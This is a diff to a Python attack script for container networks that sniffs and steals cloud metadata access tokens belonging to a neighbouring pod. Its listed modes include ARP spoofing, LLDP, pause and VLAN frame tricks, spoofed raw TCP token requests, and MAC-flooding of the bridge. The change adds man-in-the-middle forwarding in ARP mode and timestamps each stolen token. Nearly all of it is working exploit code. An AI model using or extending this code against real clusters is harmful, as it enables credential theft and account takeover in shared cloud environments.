@@ -5,7 +5,7 @@
 #   group     the same to the group of LLDP, from which bridges learn before any hook sees them
 #   pause     the same to a link-local group that passes the hook for the node itself
 #   tagged    the same behind a VLAN tag of priority alone
-#   arp       replies that say the neighbour's address is at this pod's own MAC
+#   arp       replies that say the neighbour's address is at this pod's own MAC; what comes is handed on to the neighbour
 #   raw       asks for a token itself: TCP by hand, from the neighbour's address and this pod's own MAC
 #   rawmac    the same from the neighbour's MAC too
 #   overflow  frames of ever new MACs, so that the bridge forgets the neighbour's and floods
@@ -124,13 +124,15 @@ def hear(frame):
     if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[30:34] != victim:
         return
     seen += 1
+    if kind == "arp" and frame[:6] == own:
+        send(vmac + frame[6:])
     ihl = (frame[14] & 15) * 4
     tcp = frame[14 + ihl :]
     sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
     payload = tcp[(tcp[12] >> 4) * 4 : struct.unpack("!H", frame[16:18])[0] - ihl]
     if b"access_token" in payload:
         stolen += 1
-        print(json.dumps({"token": True, "kind": kind}), flush=True)
+        print(json.dumps({"token": True, "kind": kind, "at": time.time()}), flush=True)
     if sport == imds_port and dport == own_request["port"]:
         if tcp[13] & 0x12 == 0x12:
             send(packet(source(), dport, ack, seq + 1, 0x18, REQUEST))
